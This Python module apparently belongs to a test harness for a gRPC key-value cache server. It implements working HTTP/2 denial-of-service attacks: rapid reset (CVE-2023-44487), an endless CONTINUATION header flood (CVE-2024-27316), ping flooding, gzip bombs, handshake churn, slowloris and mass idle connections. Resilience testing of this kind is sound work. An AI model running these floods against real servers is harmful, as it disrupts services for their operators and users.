"""Peers that mean harm. Each attack runs for some seconds in a process of its own, and connects again whenever the server
cuts it off."""

import contextlib
import resource
import socket
import ssl
import time
from collections.abc import Callable
from dataclasses import dataclass

import http2_frames as http2

PATH = b"/chunkkv.v1.KvCacheService/GetStats"
PUT_PATH = b"/chunkkv.v1.KvCacheService/PutCache"
BLOCK = http2.call_headers(PATH)


@dataclass(frozen=True)
class Target:
    host: str
    port: int
    tls: bool

    def connect(self) -> socket.socket:
        plain = socket.create_connection((self.host, self.port), timeout=5)
        if not self.tls:
            return plain
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        return context.wrap_socket(plain)


def _flood(target: Target, seconds: float, batches: Callable[[int], bytes]) -> None:
    """batches(i): the i-th thing to send on a connection; None: it is worn out."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        with contextlib.suppress(OSError), target.connect() as connection:
            connection.settimeout(0.5)
            connection.sendall(http2.opening())
            for index in range(1 << 30):
                batch = batches(index)
                if batch is None or time.monotonic() >= end:
                    break
                connection.sendall(batch)
                with contextlib.suppress(TimeoutError, ssl.SSLWantReadError, BlockingIOError):
                    connection.setblocking(False)
                    while connection.recv(1 << 16):
                        pass
                connection.settimeout(0.5)


def rapid_reset(target: Target, seconds: float) -> None:
    """CVE-2023-44487."""
    per_batch = 500
    _flood(target, seconds, lambda index: http2.reset_streams(1 + 2 * per_batch * index, per_batch, BLOCK)
           if index < 100_000 else None)


def header_flood(target: Target, seconds: float) -> None:
    """CVE-2024-27316: a header block without an end."""
    more = http2.more_headers(1) * 20
    _flood(target, seconds, lambda index: http2.endless_headers(1, BLOCK) if index == 0 else more)


def ping_flood(target: Target, seconds: float) -> None:
    batch = http2.pings(1000)
    _flood(target, seconds, lambda index: batch)


def gzip_bomb(target: Target, seconds: float) -> None:
    _flood(target, seconds, lambda index: http2.bomb_call(1 + 2 * index, PUT_PATH if index % 2 else PATH)
           if index < 50 else None)


def handshakes(target: Target, seconds: float) -> None:
    """Connections that are dropped as soon as they stand."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        with contextlib.suppress(OSError), target.connect() as connection:
            connection.sendall(http2.opening())


def _held_open(target: Target, seconds: float, count: int, each_second: bytes) -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    end = time.monotonic() + seconds
    connections: list[socket.socket] = []
    position = 0
    while time.monotonic() < end:
        while len(connections) < count and time.monotonic() < end:
            try:
                connection = socket.create_connection((target.host, target.port), timeout=1)
            except OSError:
                break
            connection.setblocking(False)
            connections.append(connection)
        for connection in connections:
            with contextlib.suppress(OSError):
                connection.send(each_second[position % len(each_second):][:1] or b"\0")
        position += 1
        time.sleep(min(1, max(0, end - time.monotonic())))
    for connection in connections:
        connection.close()


def slow_loris(target: Target, seconds: float) -> None:
    """1,000 connections that say a byte a second."""
    _held_open(target, seconds, 1_000, http2.PREFACE if not target.tls else b"\x16\x03\x01\x02\x00\x01")


def many_connections(target: Target, seconds: float) -> None:
    """10,000 connections that say hardly anything."""
    _held_open(target, seconds, 10_000, http2.PREFACE if not target.tls else b"\x16\x03\x01\x02\x00\x01")


ATTACKS = {"rapid reset": rapid_reset, "header flood": header_flood, "ping flood": ping_flood, "gzip bomb": gzip_bomb,
           "handshakes": handshakes, "slow loris": slow_loris, "10,000 connections": many_connections}
